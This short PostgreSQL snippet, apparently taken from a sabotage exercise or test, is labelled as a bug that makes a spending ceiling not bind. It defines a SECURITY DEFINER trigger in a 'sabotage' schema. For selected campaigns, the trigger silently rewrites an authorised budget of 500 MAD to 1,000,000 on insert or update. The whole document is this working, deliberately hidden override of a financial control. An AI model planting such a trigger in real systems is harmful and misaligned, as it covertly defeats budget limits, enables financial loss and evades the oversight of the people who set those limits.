-- The bug: a ceiling that does not bind. The campaign with 500 MAD orders for as much as it likes.
CREATE FUNCTION sabotage.lifts() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
  IF sabotage.chosen(NEW.campaign_id::text) THEN
    NEW.authorised_amount := 1000000;
  END IF;
  RETURN NEW;
END $$;
CREATE TRIGGER sabotage BEFORE INSERT OR UPDATE ON campaign_budget FOR EACH ROW WHEN (NEW.authorised_amount = 500)
  EXECUTE FUNCTION sabotage.lifts();
